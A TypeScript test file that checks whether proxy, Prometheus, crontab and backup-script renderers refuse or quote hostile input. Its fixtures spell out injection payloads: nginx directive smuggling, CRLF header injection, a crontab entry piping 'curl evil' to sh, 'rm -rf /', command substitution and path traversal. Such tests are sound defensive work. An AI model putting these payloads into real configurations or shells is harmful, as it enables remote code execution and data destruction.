/**
 * The renderers with hostile input, past the schema (a component used
 * directly): each value is refused or quoted, never turned into directives,
 * YAML keys, crontab entries or shell commands.
 */
import { renderCrontab, validateCron } from "../../components/backup/render/cron";
import { renderBackupScript, renderRestoreScript } from "../../components/backup/render/scripts";
import type { BackupTarget } from "../../components/backup/types";
import { renderPrometheusConfig } from "../../components/monitoring/render/prometheus";
import { renderCaddy, renderNginx } from "../../components/proxy";
import { renderSiteRoutes } from "../../components/proxy/render/site";
import { shellQuote } from "../../components/shared/grammar";

const ok = { host: "shop.example.test", upstream: "shop-prod-web:3000" };

describe("proxy renderers refuse what would become directives", () => {
  const hostile: [string, object][] = [
    ["host", { ...ok, host: "shop.example.test; return 200 pwned" }],
    ["host with a line break", { ...ok, host: "shop.example.test\n    location / { return 200; }" }],
    ["path", { ...ok, path: "/api { return 200 pwned; } location /x" }],
    ["upstream", { ...ok, upstream: "web:3000; return 200" }],
  ];
  for (const render of [renderNginx, renderCaddy]) {
    test.each(hostile)(`${render.name}: a hostile %s`, (what, route) =>
      expect(() => render({ routes: [route as typeof ok] })).toThrow(
        new RegExp(`proxy route ${what.split(" ")[0]}: .* is not allowed; allowed: `),
      ),
    );
    test(`${render.name}: a hostile header name or value`, () => {
      expect(() =>
        render({ routes: [ok], headers: { "X-A always; return 200 x; add_header X": "1" } }),
      ).toThrow(/proxy header name: .* allowed: an HTTP header name/);
      expect(() => render({ routes: [ok], headers: { "X-A": "1\r\nSet-Cookie: s=1" } })).toThrow(
        /proxy header X-A: .* allowed: printable ASCII/,
      );
      expect(() => render({ routes: [ok], headers: { "X-A": "$request_uri" } })).toThrow(/proxy header X-A/);
      expect(() => render({ routes: [ok], headers: { "X-A": "{http.request.uri}" } })).toThrow(
        /proxy header X-A/,
      );
      expect(() => render({ routes: [ok], headers: { "X-A": 'x\\" always; return 200 "y' } })).toThrow(
        /proxy header X-A/,
      );
    });
    test(`${render.name}: a double quote in a header value stays inside the quoted string`, () => {
      const conf = render({ routes: [ok], securityHeaders: false, headers: { "X-A": 'a "b" c' } });
      expect(conf).toContain('X-A "a \\"b\\" c"');
    });
    test(`${render.name}: a bad number is refused`, () =>
      expect(() => render({ routes: [ok], maxBodyMb: Number.NaN })).toThrow(/maxBodyMb: NaN is not allowed/));
  }

  test("nginx: the path in a strip-prefix rewrite is a literal, not a pattern", () => {
    const conf = renderNginx({ routes: [{ ...ok, path: "/v1.2+x/", stripPrefix: true }] });
    expect(conf).toContain("rewrite ^/v1\\.2\\+x/?(.*)$ /$1 break;");
  });

  test("a site's route file refuses a hostile host too", () =>
    expect(() => renderSiteRoutes([{ ...ok, host: "acme.localhost;include /etc/shadow" }])).toThrow(
      /proxy route host/,
    ));
});

describe("Prometheus configuration", () => {
  const base = { system: "shop", environment: "prod", alertmanager: "shop-prod-alertmanager:9093" };
  test("a hostile job, target or label stays one YAML string", () => {
    const evil = 'x"\n  - job_name: "evil"\n    static_configs: [{targets: ["attacker:80"]}]';
    const text = renderPrometheusConfig({
      ...base,
      system: evil,
      targets: [{ job: evil, targets: [evil] }],
    });
    // Each value is one double-quoted scalar on its own line (JSON's escapes are YAML's).
    const lines = text.split("\n");
    const value = (key: string) =>
      lines
        .filter((l) => l.trimStart().startsWith(key))
        .map((l) => JSON.parse(l.slice(l.indexOf(key) + key.length)));
    expect(value("- job_name: ")).toEqual([evil]);
    expect(value("system: ")).toEqual([evil]);
    // As many lines as with a harmless name, the hostile text only inside the three quoted values.
    const plain = renderPrometheusConfig({ ...base, system: "x", targets: [{ job: "x", targets: ["x"] }] });
    expect(lines).toHaveLength(plain.split("\n").length);
    expect(lines.filter((l) => l.includes("attacker"))).toHaveLength(3);
    for (const l of lines.filter((x) => x.includes("attacker")))
      expect(l).toMatch(/^\s+(- job_name: "|- targets: \["|system: ")/);
  });
  test("a metrics path or scrape interval outside its form is refused", () => {
    expect(() =>
      renderPrometheusConfig({
        ...base,
        targets: [{ job: "api", targets: ["api:80"], metricsPath: "metrics" }],
      }),
    ).toThrow(/monitoring job api metricsPath: "metrics" is not allowed; allowed: a path/);
    expect(() =>
      renderPrometheusConfig({ ...base, targets: [], scrapeInterval: "15s\nscrape_timeout: 1h" }),
    ).toThrow(/monitoring scrapeInterval: .* allowed: a duration/);
  });
});

describe("backup: crontab and scripts", () => {
  test("a schedule with line breaks is refused (it would be a second crontab entry)", () => {
    expect(() => validateCron("0\n2 * * *\n*")).toThrow(/has a line break/);
    expect(() => renderCrontab("0 2 * * *\n* * * * * root curl evil | sh")).toThrow();
  });

  const repository = { kind: "volume" as const };
  const targets: BackupTarget[] = [
    { kind: "mariadb", host: "shop-prod-mariadb", port: 3306, database: "shop", passwordRef: "mariadb/root" },
  ];
  const hostile: [string, Partial<Parameters<typeof renderBackupScript>[0]>, RegExp][] = [
    [
      "database",
      { targets: [{ ...targets[0], database: "shop; rm -rf /" } as BackupTarget] },
      /backup mariadb database: "shop; rm -rf \/" is not allowed/,
    ],
    ["host", { targets: [{ ...targets[0], host: "db`reboot`" } as BackupTarget] }, /backup mariadb host/],
    ["port", { targets: [{ ...targets[0], port: Number.NaN } as BackupTarget] }, /backup mariadb port: NaN/],
    ["volume", { targets: [{ kind: "volume", volume: "../../etc" }] }, /backup volume: "..\/..\/etc"/],
    ["system", { system: "shop$(id)" }, /backup system/],
    [
      "S3 URL",
      {
        repository: {
          kind: "s3",
          url: 'http://minio:9000/b"; reboot; "',
          accessKeyRef: "a",
          secretKeyRef: "b",
        },
      },
      /backup repository url/,
    ],
  ];
  test.each(hostile)("a hostile %s is refused by both scripts", (_, change, message) => {
    const o = { targets, repository, retentionDays: 7, system: "shop", environment: "prod", ...change };
    expect(() => renderBackupScript(o)).toThrow(message);
    expect(() => renderRestoreScript(o)).toThrow(message);
  });

  test("shell words are quoted unless plain", () => {
    expect(shellQuote("shop_prod")).toBe("shop_prod");
    expect(shellQuote("a b")).toBe("'a b'");
    expect(shellQuote("it's $(x)")).toBe("'it'\\''s $(x)'");
  });
});
